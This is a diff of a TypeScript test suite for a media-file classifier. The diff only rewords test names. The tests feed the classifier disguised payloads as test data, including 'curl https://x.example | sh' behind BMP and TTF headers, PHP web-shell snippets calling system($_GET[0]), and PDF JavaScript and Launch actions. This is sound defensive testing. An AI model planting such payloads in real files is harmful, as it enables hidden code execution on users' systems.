@@ -44,11 +44,11 @@ const MEDIA: Readonly<Record<string, Buffer>> = {
   ),
 };
 
-describe('a picture, sound, film, font or PDF', () => {
+describe('a picture, sound, film, font, or PDF', () => {
   for (const [name, content] of Object.entries(MEDIA)) {
-    it(`${name} is one by name and content`, () => assert.equal(certainContent(name, content), 'media'));
-    it(`${name} is none under another name`, () => assert.equal(certainContent(`${name}.ts`, content), null));
-    it(`${name} is none with something behind its end, without its end, or by its beginning alone`, () => {
+    it(`${name} is recognized by name and content`, () => assert.equal(certainContent(name, content), 'media'));
+    it(`${name} is not recognized under another name`, () => assert.equal(certainContent(`${name}.ts`, content), null));
+    it(`${name} is not recognized with data after its end, without its end, or by its beginning alone`, () => {
       const last = name.endsWith('.pdf') ? 8 : 1;
       for (const changed of [
         Buffer.concat([content, bytes('\nrequire("x").run()\n')]),
@@ -58,7 +58,7 @@ describe('a picture, sound, film, font or PDF', () => {
       ])
         assert.equal(certainContent(name, changed), null);
     });
-    it(`${name} is none with code of an interpreter in it`, () => {
+    it(`${name} is not recognized with code of an interpreter in it`, () => {
       for (const code of [
         '<?php x(); ?>',
         '<?=`id -u`?>',
@@ -86,7 +86,7 @@ describe('a picture, sound, film, font or PDF', () => {
     changed.set(bytes(text), 100);
     return changed;
   };
-  it('a.pdf is none with an action in it that runs something', () => {
+  it('a.pdf is not recognized with an action that runs something', () => {
     for (const action of [
       '<</S/JavaScript/JS(x)>>',
       '<</S /Launch /F (x)>>',
@@ -98,11 +98,11 @@ describe('a picture, sound, film, font or PDF', () => {
     ])
       assert.equal(certainContent('a.pdf', holding('docs/a.pdf', action)), null, action);
   });
-  it('is none with code behind a name that only begins as data does', () => {
+  it('is not recognized if code follows a tag that only begins like metadata', () => {
     for (const code of ['<?xpacket:system($_GET[0])?>', '<?xpacket :system($_GET[0])?>', '<?xml_parse($_GET[0]);?>'])
       assert.equal(certainContent('a.mp4', holding('a.mp4', code)), null, code);
   });
-  it('is one with words that only look like code', () => {
+  it('is recognized with words that only look like code', () => {
     const links = ['<</URI (https://x.example/docs/Web/JavaScript)>>', '<</URI (https://x.example/launch)>>'];
     for (const link of links) assert.equal(certainContent('a.pdf', holding('docs/a.pdf', link)), 'media', link);
     for (const text of [
@@ -116,11 +116,11 @@ describe('a picture, sound, film, font or PDF', () => {
     ])
       assert.equal(certainContent('a.mp4', holding('a.mp4', text)), 'media', text);
   });
-  it('is text when it goes on as text, and so is an SVG', () => {
+  it('is text if it continues as text, and so is an SVG', () => {
     assert.equal(certainContent('a.gif', bytes('GIF89a="\0";\neval(x)\n')), null);
     assert.equal(certainContent('a.svg', bytes('<svg onload="x()"/>')), null);
   });
-  it('is none by a few letters that a program begins with as well', () => {
+  it('is not recognized by a few letters that a program may also begin with', () => {
     assert.equal(certainContent('a.bmp', bytes('BM=1;curl https://x.example | sh\n\xff')), null);
     assert.equal(certainContent('a.ttf', bytes('true;curl https://x.example | sh\n\xff')), null);
     assert.equal(certainContent('a.pdf', bytes('%PDF-1.7\n\xff<?php x();')), null);
@@ -129,7 +129,7 @@ describe('a picture, sound, film, font or PDF', () => {
   });
 });
 
-describe('62: a folder of dependencies', () => {
+describe('62: the dependency folder', () => {
   const CASES: readonly (readonly [string, readonly string[], string | null])[] = [
     ['node_modules/a/b.js', ['package.json'], 'node_modules/'],
     [
@@ -181,7 +181,7 @@ describe('62: the mark of a generator', () => {
     'run(); // @generated',
   ];
   for (const line of IS_NOT) it(`is not “${line}”`, () => assert.ok(!hasBanner([line])));
-  it('stands in the first five lines', () => {
+  it('is recognized only in the first five lines', () => {
     assert.ok(hasBanner(['', '', '', '', '// @generated']));
     assert.ok(!hasBanner(['', '', '', '', '', '// @generated']));
   });
@@ -199,7 +199,7 @@ describe('62: the mark of a generator', () => {
       ({ reason }) => reason,
     );
   };
-  it('counts while it stands at the head on both sides', () => {
+  it('counts only if it is at the top on both sides', () => {
     assert.deepEqual(outcome([...before, 'more']), ['generated']);
     assert.deepEqual(outcome(['// a', ...before]), ['generated']);
     const rest = before.slice(1);
